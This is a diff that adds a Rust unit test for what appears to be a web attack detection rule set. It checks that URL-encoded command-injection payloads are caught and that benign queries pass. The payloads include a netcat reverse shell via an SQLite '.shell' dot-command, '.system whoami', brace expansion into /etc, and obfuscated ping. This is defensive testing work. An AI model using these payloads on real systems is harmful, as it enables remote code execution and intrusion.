@@ -242,3 +242,26 @@ fn glued_quotes_probes_session_variables_and_drops_are_found() {
         assert_eq!(rule_for(benign), None, "{benign}");
     }
 }
+
+#[test]
+fn sqlite_dot_commands_brace_expansion_and_empty_substitutions_are_found() {
+    assert_eq!(
+        rule_for("/?foo=;%5Cn.shell%20nc%2010.0.0.1%206666%20-e%20sh"),
+        Some("rce-sqlite-dot-command")
+    );
+    assert_eq!(
+        post_rule(FORM, "code=1%3B.system+whoami%0A"),
+        Some("rce-sqlite-dot-command")
+    );
+    assert_eq!(rule_for("/?x=%7B%2Ccd%2C%2Fetc%2C%7D"), Some("rce-brace-expansion"));
+    assert!(rule_for("/?x=;pi%60%60ng%20-c%201%20127.0.0.1").is_some());
+    assert!(rule_for("/?x=;pi$()ng%20-c%201%20127.0.0.1").is_some());
+    for benign in [
+        "/?q=rename+it+to+run.sh+then+start",
+        "/?q=see+the+.shell+config",
+        "/?json=%5B%7B%22value%22%3Atrue%7D%2C%7B%7D%5D",
+        "/?q=price+%24%28%29+empty",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
